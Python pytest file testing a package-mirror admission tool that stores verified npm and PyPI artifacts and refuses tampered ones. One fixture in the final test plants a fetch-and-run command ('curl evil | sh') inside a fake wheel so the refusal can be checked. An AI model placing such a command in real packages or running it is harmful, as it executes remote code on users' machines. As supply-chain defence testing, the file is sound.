"""`mirror add` through the real pipeline: verified files are stored, tampered ones refused and never served."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from ossprov.commands.mirror import command
from ossprov.errors import InputError
from ossprov.fixtures.world import World
from ossprov.mirror import admit
from ossprov.mirror.store import MirrorStore
from ossprov.model import LocateResult, Release
from ossprov.verify import rebuild as rebuild_stage
from ossprov.verify.rebuild import Outcome, RebuildResult
from tests.mirror.fixtures_world import PY_FILES, genuine_npm, genuine_pypi, tampered_npm
from tests.mirror.mirrorhelpers import running


def run_add(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(command, ["add", *args])
    return result.exit_code, result.output


def test_verified_npm_package_is_stored_with_its_manifest(world: World) -> None:
    purl, tarball = genuine_npm(world)
    code, out = run_add(purl, "--format", "json")
    assert code == 0, out
    report = json.loads(out)
    assert report["admitted"] and report["decisions"][0]["verdict"] == "faithful"
    doc = MirrorStore().load("npm", "plain")
    entry = doc["versions"]["1.0.0"]
    assert entry["manifest"]["name"] == "plain" and entry["files"][0]["filename"] == tarball.name
    assert MirrorStore().blob_path(entry["files"][0]["sha256"]).read_bytes() == tarball.read_bytes()
    assert entry["files"][0]["summary"]["repository"] == "https://github.com/acme/plain"


def test_verified_pypi_release_stores_sdist_and_wheel(world: World) -> None:
    code, out = run_add(genuine_pypi(world))
    assert code == 0, out
    files = MirrorStore().load("pypi", "snake")["versions"]["1.0"]["files"]
    assert sorted(f["filename"] for f in files) == ["snake-1.0-py3-none-any.whl", "snake-1.0.tar.gz"]
    assert all(f["verdict"] in ("faithful", "faithful-with-build-output") for f in files)


def test_tampered_package_is_refused_and_not_served(world: World) -> None:
    purl = tampered_npm(world)
    code, out = run_add(purl)
    assert code == 1 and "refused" in out and "OSP101" in out
    store = MirrorStore()
    assert store.load("npm", "evil") is None
    assert not (store.root / "blobs").exists() or not any((store.root / "blobs").rglob("*"))
    for server in running(store):
        import httpx

        answer = httpx.get(f"{server.url}/evil")
        assert answer.status_code == 404 and "not in the verified mirror" in answer.json()["error"]


def _rebuilt(outcome: Outcome):
    def fake(located: LocateResult, artifact: Path, release: Release, options: object, *, progress: object = None) -> RebuildResult:
        return RebuildResult(outcome, published_sha256=hashlib.sha256(artifact.read_bytes()).hexdigest())

    return fake


def test_require_rebuilt_refuses_when_the_rebuild_differs(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    purl, _ = genuine_npm(world)
    monkeypatch.setattr(rebuild_stage, "rebuild", _rebuilt(Outcome.DIFFERS))
    report = admit.add(purl, "rebuilt")
    assert not report.admitted and "rebuild outcome differs" in report.decisions[0].reason
    assert MirrorStore().load("npm", "plain") is None
    monkeypatch.setattr(rebuild_stage, "rebuild", _rebuilt(Outcome.BIT_FOR_BIT))
    report = admit.add(purl, "rebuilt")
    assert report.admitted
    assert MirrorStore().load("npm", "plain")["versions"]["1.0.0"]["files"][0]["rebuild"] == "bit-for-bit"


@pytest.mark.parametrize("purl, message", [("pkg:maven/g/a@1", "serves npm and pypi"),
                                           ("pkg:npm/plain", "no version"), ("not-a-purl", "purl|package URL")])
def test_bad_input_is_one_line_exit_2(purl: str, message: str) -> None:
    with pytest.raises(InputError, match=message):
        admit.add(purl)
    proc = subprocess.run([sys.executable, "-m", "ossprov", "mirror", "add", purl], capture_output=True, text=True)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr


@pytest.mark.slow
def test_require_rebuilt_with_the_real_rebuild(world: World) -> None:
    purl, _ = genuine_npm(world)
    code, out = run_add(purl, "--require", "rebuilt")
    assert code == 0, out
    stored = MirrorStore().load("npm", "plain")["versions"]["1.0.0"]["files"][0]
    assert stored["rebuild"] in ("bit-for-bit", "stabilized")


def test_tampered_wheel_is_refused_while_its_sdist_is_stored(world: World) -> None:
    repo = world.repo("acme/snake")
    repo.commit("release", PY_FILES)
    purl = world.publish_pypi("snake", "1.0", PY_FILES, metadata={"Project-URL": ["Source, https://github.com/acme/snake"]},
                              wheel_files={"snake/__init__.py": "X = 1\nimport os; os.system('curl evil | sh')\n"})
    report = admit.add(purl)
    by_name = {d.filename: d for d in report.decisions}
    assert by_name["snake-1.0.tar.gz"].admitted
    assert not by_name["snake-1.0-py3-none-any.whl"].admitted
    files = MirrorStore().load("pypi", "snake")["versions"]["1.0"]["files"]
    assert [f["filename"] for f in files] == ["snake-1.0.tar.gz"]
